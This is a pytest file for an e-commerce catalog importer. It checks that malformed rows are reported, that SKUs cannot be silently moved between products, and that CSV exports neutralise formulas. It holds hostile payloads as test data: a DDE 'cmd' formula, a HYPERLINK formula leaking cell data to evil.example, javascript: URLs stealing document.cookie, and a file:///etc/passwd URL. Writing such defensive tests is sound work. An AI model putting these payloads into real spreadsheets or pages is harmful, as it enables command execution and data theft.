"""Hostile and careless catalog files (issue 11): one bad row is reported with its line and reason and
the rest loads; SKUs do not silently change product; the CSV export is safe to open in a spreadsheet and
round-trips; currencies are ISO 4217; image URLs are http(s) or relative; the admin stock body is strict."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from elara_bot.catalog.exporter import export_catalog
from elara_bot.catalog.importer import FORMULA_START, escape_cell, import_catalog, unescape_cell
from elara_bot.catalog.schemas import ImportReport
from elara_bot.catalog.service import get_product, get_variant
from elara_bot.db import Conn
from retrieval.embedding import Embedder

ADMIN_KEY = "hostile-admin-key"
CSV_HEADER = (
    "id,title,description,brand,category,attributes,image_url,currency,sku,options,price_minor,stock\n"
)


def _product(pid: str, **fields: Any) -> dict[str, Any]:
    variant = {"sku": f"{pid}-1", "options": {"size": "M"}, "price_minor": 1299, "stock": 3}
    variant.update(fields.pop("variant", {}))
    return {
        "id": pid,
        "title": "Trail Socks",
        "description": "merino socks for hiking",
        "category": "Outdoor > Apparel",
        "variants": [variant],
        **fields,
    }


def _jsonl(tmp_path: Path, products: list[dict[str, Any] | str], name: str = "cat.jsonl") -> Path:
    path = tmp_path / name
    lines = [p if isinstance(p, str) else json.dumps(p) for p in products]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


async def _load(conn: Conn, embedder: Embedder, path: Path, **kwargs: Any) -> ImportReport:
    return await import_catalog(conn, embedder, path, progress=False, **kwargs)


async def _assert_one_bad_row(
    conn: Conn, embedder: Embedder, tmp_path: Path, bad: dict[str, Any] | str, reason: str
) -> None:
    """Line 2 is bad; lines 1 and 3 load; the transaction stays usable."""
    path = _jsonl(tmp_path, [_product("h-ok1"), bad, _product("h-ok2")])
    report = await _load(conn, embedder, path)
    assert [e.line for e in report.errors] == [2], report.errors
    assert reason in report.errors[0].reason
    assert report.loaded == 2
    assert (await get_variant(conn, "h-ok2-1")).stock == 3


NUL = "a\x00b"


@pytest.mark.parametrize(
    "bad",
    [
        _product("h-nul-title", title=NUL),
        _product("h-nul-desc", description=NUL),
        _product("h-nul-brand", brand=NUL),
        _product("h-nul-cat", category=NUL),
        _product("h-nul-sku", variant={"sku": NUL}),
        _product("h-nul-opt", variant={"options": {"size": NUL}}),
        _product("h-nul-optkey", variant={"options": {NUL: "M"}}),
        _product("h-nul-attr", attributes={"care": {"wash": ["cold", NUL]}}),
        _product("h-nul-attrkey", attributes={NUL: 1}),
        _product(NUL),
    ],
    ids=lambda p: str(p["id"]),
)
async def test_nul_byte_in_any_text_is_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path, bad: dict[str, Any]
) -> None:
    await _assert_one_bad_row(conn, embedder, tmp_path, bad, "NUL")


@pytest.mark.parametrize(
    ("variant", "reason"),
    [
        ({"price_minor": 2**64}, "price_minor"),
        ({"price_minor": 2**63}, "price_minor"),
        ({"price_minor": True}, "price_minor"),
        ({"stock": 2**31}, "stock"),
        ({"stock": 2**70}, "stock"),
        ({"stock": False}, "stock"),
    ],
    ids=["price-2^64", "price-2^63", "price-true", "stock-2^31", "stock-2^70", "stock-false"],
)
async def test_numbers_out_of_range_are_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path, variant: dict[str, Any], reason: str
) -> None:
    await _assert_one_bad_row(conn, embedder, tmp_path, _product("h-num", variant=variant), reason)


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (json.dumps(_product("h-nan", attributes={"weight": float("nan")})), "NaN"),
        (json.dumps(_product("h-inf", attributes={"weight": float("-inf")})), "Infinity"),
        (json.dumps(_product("h-sur", attributes={"note": "x\ud800y"})), "surrogate"),
        ("[" * 100_000 + "]" * 100_000, "nested"),
        ('{"id": "h-big", "attributes": {"n": ' + "9" * 5000 + "}}", "digits"),
        (json.dumps(_product("h-long", variant={"sku": "S" * 5000})), "sku"),
        (json.dumps(_product("h-longid" + "x" * 5000)), "id"),
    ],
    ids=["nan", "infinity", "surrogate", "deep", "huge-int", "long-sku", "long-id"],
)
async def test_unstorable_json_is_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path, line: str, reason: str
) -> None:
    await _assert_one_bad_row(conn, embedder, tmp_path, line, reason)


async def test_invalid_utf8_line_is_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    path = tmp_path / "cat.jsonl"
    bad = json.dumps(_product("h-latin1", title="Caf\u00e9"), ensure_ascii=False).encode("latin-1")
    path.write_bytes(
        json.dumps(_product("h-ok1")).encode() + b"\n" + bad + b"\n" + json.dumps(_product("h-ok2")).encode()
    )
    report = await _load(conn, embedder, path)
    assert [e.line for e in report.errors] == [2]
    assert "UTF-8" in report.errors[0].reason
    assert report.loaded == 2


async def test_csv_nul_and_out_of_range_rows_are_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    path = tmp_path / "cat.csv"
    path.write_text(
        CSV_HEADER
        + "c1,Camp Mug,enamel mug,,Outdoor,{},,USD,c1-a,{},899,5\n"
        + "c2,Bad\x00Mug,,,Outdoor,{},,USD,c2-a,{},899,5\n"
        + f"c3,Rich Mug,,,Outdoor,{{}},,USD,c3-a,{{}},{2**64},5\n"
        + f"c4,Full Mug,,,Outdoor,{{}},,USD,c4-a,{{}},100,{2**31}\n"
        + "c5,Fine Mug,,,Outdoor,{},,USD,c5-a,{},100,1\n",
        encoding="utf-8",
    )
    report = await _load(conn, embedder, path)
    assert [e.line for e in report.errors] == [3, 4, 5]
    assert "NUL" in report.errors[0].reason
    assert "price_minor" in report.errors[1].reason
    assert "stock" in report.errors[2].reason
    assert report.loaded == 2
    assert (await get_variant(conn, "c5-a")).price_minor == 100


async def test_a_row_the_database_refuses_is_reported_and_the_rest_loads(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    """Whatever validation misses: here a CHECK the import does not know of (rolled back with the test)."""
    await conn.execute(
        "ALTER TABLE variants ADD CONSTRAINT test_price_cap CHECK (price_minor < 100000) NOT VALID"
    )
    products = [_product(f"db-{i}") for i in range(5)]
    products[2]["variants"][0]["price_minor"] = 100000
    report = await _load(conn, embedder, _jsonl(tmp_path, products), batch_size=2)
    assert [e.line for e in report.errors] == [3]
    assert "test_price_cap" in report.errors[0].reason
    assert (report.loaded, report.embedded) == (4, 4)
    cur = await conn.execute("SELECT id FROM products WHERE id LIKE 'db-%' ORDER BY id")
    assert [r["id"] for r in await cur.fetchall()] == ["db-0", "db-1", "db-3", "db-4"]


# --- SKUs that belong to another product --------------------------------------------------------------


async def _owner(conn: Conn, sku: str) -> dict[str, Any]:
    cur = await conn.execute("SELECT product_id, price_minor, stock FROM variants WHERE sku = %s", [sku])
    row = await cur.fetchone()
    assert row is not None
    return dict(row)


async def test_sku_of_another_product_is_refused_unless_allowed(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    first = _jsonl(tmp_path, [_product("m-a", variant={"sku": "M-SKU", "price_minor": 500, "stock": 4})])
    assert (await _load(conn, embedder, first)).errors == []
    thief = _product("m-b", variant={"sku": "M-SKU", "price_minor": 1, "stock": 999})
    path = _jsonl(tmp_path, [_product("m-c"), thief], name="move.jsonl")
    report = await _load(conn, embedder, path)
    assert [e.line for e in report.errors] == [2]
    assert "M-SKU" in report.errors[0].reason
    assert "m-a" in report.errors[0].reason
    assert report.loaded == 1
    assert await _owner(conn, "M-SKU") == {"product_id": "m-a", "price_minor": 500, "stock": 4}

    # An update of the same product with the same SKU still works.
    update = _product("m-a", variant={"sku": "M-SKU", "price_minor": 650, "stock": 2})
    assert (await _load(conn, embedder, _jsonl(tmp_path, [update], name="upd.jsonl"))).errors == []
    assert await _owner(conn, "M-SKU") == {"product_id": "m-a", "price_minor": 650, "stock": 2}

    # With the explicit flag the move happens, and is counted.
    moved = await _load(conn, embedder, path, allow_sku_move=True)
    assert moved.errors == []
    assert moved.moved == 1
    assert await _owner(conn, "M-SKU") == {"product_id": "m-b", "price_minor": 1, "stock": 999}


async def test_sku_claimed_twice_in_one_file_is_refused(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    first = _product("d-a", variant={"sku": "D-SKU", "price_minor": 500})
    second = _product("d-b", variant={"sku": "D-SKU", "price_minor": 1})
    report = await _load(conn, embedder, _jsonl(tmp_path, [first, second]), batch_size=1)
    assert [e.line for e in report.errors] == [2]
    assert "d-a" in report.errors[0].reason
    assert await _owner(conn, "D-SKU") == {"product_id": "d-a", "price_minor": 500, "stock": 3}


async def test_duplicate_sku_within_a_product_is_refused(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    product = _product("dup")
    product["variants"].append({**product["variants"][0], "price_minor": 1})
    await _assert_one_bad_row(conn, embedder, tmp_path, product, "dup-1")


# --- CSV export: formula injection and round trip -----------------------------------------------------

HOSTILE = {
    "id": "=cmd|'/c calc'!A1",
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "description": "-5% off, today only",
    "brand": "@SUM(1+1)",
    "category": "+Outdoor",
    "image_url": "-img.png",
    "variants": [
        {"sku": "\tTAB-1", "options": {"size": "=1+1"}, "price_minor": 0, "stock": 0},
        {"sku": "\rCR-1", "options": {"size": "'quoted"}, "price_minor": 10, "stock": 2},
        {"sku": "'=already", "options": {}, "price_minor": 20, "stock": 3},
    ],
}


async def test_csv_export_neutralises_formulas_and_round_trips(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    assert (await _load(conn, embedder, _jsonl(tmp_path, [HOSTILE]))).errors == []
    before = await get_product(conn, HOSTILE["id"])
    out = io.StringIO()
    await export_catalog(conn, out, "csv")
    rows = [r for r in csv.DictReader(io.StringIO(out.getvalue())) if "HYPERLINK" in r["title"]]
    assert len(rows) == 3
    for row in rows:
        for column in ("id", "title", "description", "brand", "category", "image_url", "sku"):
            assert row[column][0] not in "=+-@\t\r", (column, row[column])
        assert row["price_minor"].isdigit()
        assert row["stock"].isdigit()
    assert rows[0]["title"].startswith("'=HYPERLINK")
    assert {r["sku"] for r in rows} == {"'\tTAB-1", "'\rCR-1", "''=already"}

    path = tmp_path / "out.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    again = await _load(conn, embedder, path)
    assert again.errors == []
    after = await get_product(conn, HOSTILE["id"])
    assert after == before
    assert {v.sku for v in after.variants} == {"\tTAB-1", "\rCR-1", "'=already"}
    assert after.title == HOSTILE["title"]


@given(st.text())
def test_csv_cell_escape_round_trips_and_never_starts_a_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not escaped.startswith(FORMULA_START)


async def test_csv_import_keeps_a_quote_that_escapes_nothing(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    path = tmp_path / "cat.csv"
    path.write_text(CSV_HEADER + "'q1,'Twas a mug,,,,{},,USD,q1-a,{},100,1\n", encoding="utf-8")
    assert (await _load(conn, embedder, path)).errors == []
    assert (await get_product(conn, "'q1")).title == "'Twas a mug"


# --- currencies ---------------------------------------------------------------------------------------


async def test_currency_is_normalised_and_unknown_codes_refused(
    conn: Conn, embedder: Embedder, tmp_path: Path
) -> None:
    path = _jsonl(
        tmp_path,
        [
            _product("cur-1", currency="usd"),
            _product("cur-2", currency="USX"),
            _product("cur-3", currency=" eur "),
            _product("cur-4", currency="us"),
        ],
    )
    report = await _load(conn, embedder, path)
    assert [e.line for e in report.errors] == [2, 4]
    assert all("currency" in e.reason for e in report.errors)
    assert (await get_product(conn, "cur-1")).currency == "USD"
    assert (await get_variant(conn, "cur-3-1")).currency == "EUR"


# --- image URLs ---------------------------------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "\\\\evil.example/x.png",
    "https:evil.example",
    "https://",
]
GOOD_URLS = ["https://cdn.example/a.png", "http://cdn.example/a.png?x=1", "/static/a.svg", "img/a.png"]


async def test_image_urls_are_http_or_relative(conn: Conn, embedder: Embedder, tmp_path: Path) -> None:
    products = [_product(f"img-bad-{i}", image_url=u) for i, u in enumerate(BAD_URLS)]
    products += [_product(f"img-ok-{i}", image_url=u) for i, u in enumerate(GOOD_URLS)]
    report = await _load(conn, embedder, _jsonl(tmp_path, products))
    assert [e.line for e in report.errors] == list(range(1, len(BAD_URLS) + 1))
    assert all("image_url" in e.reason for e in report.errors)
    for i, url in enumerate(GOOD_URLS):
        assert (await get_product(conn, f"img-ok-{i}")).image_url == url


def _insert_legacy_product(db_url: str, image_url: str) -> None:
    """A row stored before import checked URLs (or written by hand)."""
    with psycopg.connect(db_url) as db:
        db.execute(
            "INSERT INTO products (id, title, category, image_url) VALUES ('legacy', 'Legacy Lamp', '', %s)",
            [image_url],
        )
        db.execute(
            "INSERT INTO variants (sku, product_id, price_minor, stock) VALUES ('legacy-1', 'legacy', 100, 1)"
        )


def test_store_page_and_api_never_hand_out_an_unsafe_image_url(
    db_url: str, live_service: Callable[..., AbstractContextManager[str]]
) -> None:
    _insert_legacy_product(db_url, "javascript:alert(document.cookie)")
    with live_service() as url, httpx.Client(base_url=url, timeout=30) as client:
        page = client.get("/")
        assert page.status_code == 200
        assert "Legacy Lamp" in page.text
        assert "javascript:" not in page.text
        product = client.get("/api/v1/products/legacy")
        assert product.status_code == 200
        assert product.json()["image_url"] is None


# --- admin stock: strict integers ---------------------------------------------------------------------


def test_admin_stock_accepts_only_a_strict_integer_in_range(
    live_service: Callable[..., AbstractContextManager[str]],
) -> None:
    auth = {"admin_api_key": ADMIN_KEY, "session_secret": "s" * 32}
    admin = {"X-Admin-Key": ADMIN_KEY}
    with live_service(auth=auth) as url, httpx.Client(base_url=url, timeout=30) as client:
        sku = client.get("/api/v1/products/7363354090").json()["variants"][0]["sku"]
        stock_url = f"/api/v1/admin/stock/{sku}"
        for bad in [False, True, "7", 7.5, None, -1, 1_000_001, 2**63, [7], {"n": 7}]:
            response = client.put(stock_url, json={"stock": bad}, headers=admin)
            assert response.status_code == 422, (bad, response.text)
        assert client.put(stock_url, json={}, headers=admin).status_code == 422
        ok = client.put(stock_url, json={"stock": 7}, headers=admin)
        assert ok.status_code == 200
        assert ok.json() == {"sku": sku, "stock": 7}
        zero = client.put(stock_url, json={"stock": 0}, headers=admin)
        assert zero.json() == {"sku": sku, "stock": 0}
